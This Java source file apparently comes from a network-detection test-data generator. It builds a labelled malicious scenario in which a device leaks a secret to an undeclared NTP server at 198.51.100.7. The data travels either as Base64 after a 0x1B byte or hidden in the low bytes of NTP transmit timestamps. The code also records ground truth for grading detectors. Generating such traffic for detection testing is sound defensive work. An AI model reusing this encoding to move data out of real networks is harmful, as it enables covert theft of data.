package io.telltale.testdata.scenario.attack;

import io.telltale.testdata.payload.Bytes;
import io.telltale.testdata.payload.Ntp;
import io.telltale.testdata.scenario.BaseScenario;
import io.telltale.testdata.scenario.Device;
import io.telltale.testdata.scenario.Label;
import io.telltale.testdata.scenario.Plan;
import io.telltale.testdata.scenario.Severity;
import io.telltale.testdata.scenario.Site;
import io.telltale.testdata.scenario.Talk;
import io.telltale.testdata.scenario.Truth;
import java.net.InetAddress;
import java.util.Base64;
import java.util.List;

/**
 * A5: NTP as a covert channel from the EDS to 198.51.100.7, an NTP server nobody declared.
 * (a) PyExfil's shape: a first byte of 0x1B and 46 Base64 characters of data, 10 packets a second for
 * 5 minutes, never a valid NTP packet (Wireshark calls each malformed; the truth names it). (b) ntpescape's shape: valid
 * 48-byte requests, one every 64 s for 6 hours, whose transmit timestamp's low 16 bits carry the data;
 * the server answers each.
 */
public final class NtpCovertChannel extends BaseScenario {

    static final InetAddress SERVER = Site.address("198.51.100.7");
    private final boolean timestamps;

    public NtpCovertChannel(String id, boolean timestamps) {
        super(id, Label.MALICIOUS, timestamps ? "ntpescape-like: data in the low bits of NTP transmit timestamps, 1 per 64 s"
                : "PyExfil-like: 0x1B + Base64 text sent to an undeclared NTP server, 10 a second");
        this.timestamps = timestamps;
    }

    @Override
    public void plan(Plan plan) {
        Device eds = plan.site().device("EDS-1");
        long start = Plan.dayOf(plan.start()) + (timestamps ? 6 : 16) * HOUR + 3 * MINUTE;
        long end = start + (timestamps ? 6 * HOUR : 5 * MINUTE);
        long gap = timestamps ? 64 * SECOND : SECOND / 10;
        byte[] secret = Bytes.text(SlowDnsExfiltration.PAXLST);
        long count = 0;
        for (long t = start; t < end; t += gap) {
            long index = count++;
            plan.at(t, talk -> send(talk, eds, secret, index));
        }
        truth(plan, eds, new Truth.Remote(SERVER.getHostAddress(), null, "udp", 123),
                timestamps ? List.of("ntp-covert-channel", "undeclared-peer") : List.of("ntp-covert-channel", "undeclared-peer"),
                Severity.HIGH, List.of("T1048.003", "T1095", "T0885"), start, end,
                timestamps ? new Truth.Expect(Truth.Expect.REQUESTS, count, count, count * 48, count * 48, count * 48, count * 48, 64, 0.01)
                        : new Truth.Expect(Truth.Expect.REQUESTS, count, count, count * 47, count * 47, 0, 0, 0.1, 0.01),
                timestamps ? List.of() : List.of("not-ntp-on-port-123"));
    }

    private void send(Talk talk, Device eds, byte[] secret, long index) {
        var link = talk.link(eds, SERVER);
        if (timestamps) {
            byte[] request = Ntp.request(talk.start(), 6);
            int at = (int) ((index * 2) % secret.length);
            request[46] = secret[at];
            request[47] = secret[(at + 1) % secret.length];
            talk.add(link.udp(talk.start(), true, 123, 123, request));
            long back = talk.start() + Talk.WAN_RTT_NANOS;
            talk.add(link.udp(back, false, 123, 123, Ntp.response(request, back - 19_000_000, back - 18_900_000, 0x47505300L)));
        } else {
            int at = (int) ((index * 34) % secret.length);
            byte[] chunk = new byte[34];
            for (int i = 0; i < 34; i++) {
                chunk[i] = secret[(at + i) % secret.length];
            }
            byte[] text = Base64.getEncoder().encode(chunk);
            byte[] packet = Bytes.concat(new byte[] {0x1b}, java.util.Arrays.copyOf(text, 46));
            talk.add(link.udp(talk.start(), true, 40_000 + (int) (index % 20_000), 123, packet));
        }
    }
}
